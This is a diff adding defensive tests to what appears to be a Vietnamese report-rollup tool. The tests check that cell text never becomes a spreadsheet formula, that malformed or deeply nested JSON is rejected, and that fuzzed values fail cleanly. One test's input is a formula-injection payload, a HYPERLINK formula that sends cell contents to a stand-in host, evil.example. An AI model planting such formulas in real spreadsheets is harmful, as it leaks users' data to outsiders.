@@ -6,6 +6,8 @@ import json
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from indexer.errors import ReportError
 from search.rollup import build_rollup, load_report, rollup
@@ -194,3 +196,97 @@ def test_a_control_character_in_a_unit_name_never_stops_the_workbook(cli, rubric
     out = tmp_path / "tong hop.xlsx"
     assert cli("rollup", *files, "-o", out).exit_code == 0
     assert openpyxl.load_workbook(out)["Đơn vị"]["B2"].value.startswith("UBND phường Phù\ufffdLiễn")
+
+
+def test_text_from_a_report_is_text_in_the_workbook_never_a_formula(cli, rubric, tmp_path):
+    import zipfile
+
+    import openpyxl
+
+    unit = '=HYPERLINK("http://evil.example/?x="&A1,"Phường X")'
+    data = make_report(rubric, unit, "2026.1", {"2.5": "missing"})
+    data["criteria"][0]["subcriteria"][0]["title"] = "@SUM(1+1)"
+    data["criteria"][0]["subcriteria"][1]["title"] = "+1-2 công khai"
+    paths = [tmp_path / "x.json", tmp_path / "y.json"]
+    paths[0].write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    paths[1].write_text(json.dumps(make_report(rubric, "-UBND phường Kiến An", "2026.1", {}), ensure_ascii=False), encoding="utf-8")
+    out = tmp_path / "tong hop.xlsx"
+    assert cli("rollup", *paths, "-o", out).exit_code == 0
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in x for x in sheets)
+    book = openpyxl.load_workbook(out)
+    units = [c.value for c in book["Đơn vị"]["B"][1:]]
+    assert units == ["-UBND phường Kiến An", unit]
+    needs = {row[0].value: row for row in book["Tiêu chí con"].iter_rows(min_row=2)}
+    assert needs["1.1"][1].value == "@SUM(1+1)" and needs["1.2"][1].value == "+1-2 công khai"
+    assert needs["2.5"][7].value == unit and needs["2.5"][7].data_type == "s"
+
+
+@pytest.mark.parametrize(
+    "change, says",
+    [
+        pytest.param(lambda d: d["criteria"][0]["subcriteria"][0].update(points="ba"), '1.1 có "points"', id="sub-points-text"),
+        pytest.param(lambda d: d["criteria"][0]["subcriteria"][0].update(points={"a": 1}), '1.1 có "points"', id="sub-points-object"),
+        pytest.param(lambda d: d.update(period={"start": 20260101, "end": 20260630}), '"period"', id="period-numbers"),
+        pytest.param(lambda d: d.update(period={"start": ["2026", "01", "01"], "end": ["2026", "06", "30"]}), '"period"', id="period-lists"),
+        pytest.param(lambda d: d.update(period="2026"), '"period"', id="period-text"),
+    ],
+)
+def test_a_report_of_the_right_shape_with_wrong_values_exits_2_naming_them(cli, rubric, reports, tmp_path, change, says):
+    data = make_report(rubric, "UBND phường Hải Thành", "2026.1", {})
+    change(data)
+    bad = tmp_path / "hai thanh.json"
+    bad.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    result = cli("rollup", bad, reports["phu-lien.json"])
+    assert result.exit_code == 2
+    assert len(result.stderr.strip().splitlines()) == 1 and "hai thanh.json" in result.stderr and says in result.stderr
+
+
+def test_deeply_nested_json_is_bad_json(cli, tmp_path):
+    deep = tmp_path / "sau.json"
+    deep.write_text('{"schema": 1, "x": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
+    result = cli("rollup", deep)
+    assert result.exit_code == 2 and "sau.json" in result.stderr and "không phải JSON hợp lệ" in result.stderr
+
+
+_JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=12),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
+    max_leaves=6,
+)
+# Where a ward's report feeds the table: each gets a random JSON value in turn.
+_PLACES = {
+    "sub points": lambda d, v: d["criteria"][0]["subcriteria"][0].__setitem__("points", v),
+    "sub title": lambda d, v: d["criteria"][0]["subcriteria"][0].__setitem__("title", v),
+    "sub code": lambda d, v: d["criteria"][0]["subcriteria"][0].__setitem__("code", v),
+    "criterion code": lambda d, v: d["criteria"][1].__setitem__("code", v),
+    "criterion title": lambda d, v: d["criteria"][0].__setitem__("title", v),
+    "period": lambda d, v: d.__setitem__("period", v),
+    "period start": lambda d, v: d["period"].__setitem__("start", v),
+    "period end": lambda d, v: d["period"].__setitem__("end", v),
+    "unit": lambda d, v: d.__setitem__("unit", v),
+    "rubric title": lambda d, v: d.__setitem__("rubric_title", v),
+    "rubric version": lambda d, v: d.__setitem__("rubric_version", v),
+    "generated": lambda d, v: d.__setitem__("generated", v),
+}
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(place=st.sampled_from(sorted(_PLACES)), value=_JSON | st.text(alphabet="0123456789.-²١ ", max_size=6))
+def test_random_values_in_a_report_never_raise_anything_but_a_report_error(rubric, tmp_path, place, value):
+    from search.rollup import render_html, render_markdown, render_text, rollup_json, write_xlsx
+
+    data = make_report(rubric, "UBND phường Hải Thành", "2026.1", {"1.1": "missing"})
+    _PLACES[place](data, value)
+    paths = [tmp_path / "x.json", tmp_path / "y.json"]
+    paths[0].write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    paths[1].write_text(json.dumps(make_report(rubric, "UBND phường Kiến An", "2026.1", {}), ensure_ascii=False), encoding="utf-8")
+    try:
+        table = rollup(paths)
+    except ReportError:
+        return
+    for render in (render_text, render_markdown, render_html):
+        assert isinstance(render(table), str)
+    json.dumps(rollup_json(table), ensure_ascii=False)
+    write_xlsx(table, tmp_path / "t.xlsx")
